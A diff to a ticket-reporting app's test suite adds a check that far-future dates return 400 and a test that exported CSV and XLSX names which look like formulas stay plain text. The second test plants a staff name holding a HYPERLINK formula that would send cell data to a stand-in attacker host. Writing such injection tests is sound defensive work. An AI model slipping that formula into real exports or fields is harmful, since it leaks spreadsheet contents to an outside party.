@@ -171,6 +171,13 @@ def test_the_pages_show_the_figures_and_link_to_the_tickets(client, tickets):
     assert client.get(f"/reports/tickets?dim=opd&key=DLH&metric=nope&{ARGS}").status_code == 400
 
 
+def test_a_period_ending_at_the_end_of_the_calendar_is_400_not_500(client, tickets):
+    supervisor(client)
+    for period in ("end=9999-12-31", "start=9999-12-30&end=9999-12-31"):
+        for page in ("/reports/", "/reports/tickets", "/reports/trend", "/reports/export.csv"):
+            assert client.get(f"{page}?{period}").status_code == 400, (page, period)
+
+
 def test_kinds_and_channels_are_named_in_words_not_codes(client, tickets):
     supervisor(client)
     html = client.get(f"/reports/?dim=kind&{ARGS}").get_data(as_text=True)
@@ -193,6 +200,25 @@ def test_csv_and_xlsx_exports(client, tickets):
     header = [c.value for c in sheet[1]]
     row = next(r for r in sheet.iter_rows(min_row=2, values_only=True) if r[0] == "DLH")
     assert row[header.index("Persentase tepat janji")] == 66.7 and len(book.worksheets) == 2
+
+
+def test_exported_names_that_look_like_formulas_stay_text(client, tickets):
+    """A staff or officer name is a label in the exports: "=HYPERLINK(...)" must not
+    become a live formula in the spreadsheet a supervisor opens."""
+    agent = make_user("agent", email="formula@example.org")
+    agent.name = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+    tickets["A"].assignee_id = agent.id
+    db.session.commit()
+    supervisor(client)
+    text = client.get(f"/reports/export.csv?dim=agent&{ARGS}").get_data(as_text=True)
+    labels = [row["label"] for row in csv.DictReader(io.StringIO(text))]
+    assert "'" + agent.name in labels
+    assert not any(label[:1] in ("=", "+", "-", "@") for label in labels)
+    data = client.get(f"/reports/export.xlsx?dim=agent&{ARGS}").get_data()
+    summary, backlog = load_workbook(io.BytesIO(data)).worksheets
+    assert agent.name in [cell.value for row in summary.iter_rows() for cell in row]
+    for sheet in (summary, backlog):
+        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
 
 
 def test_the_monthly_pdf_of_one_opd(client, tickets):
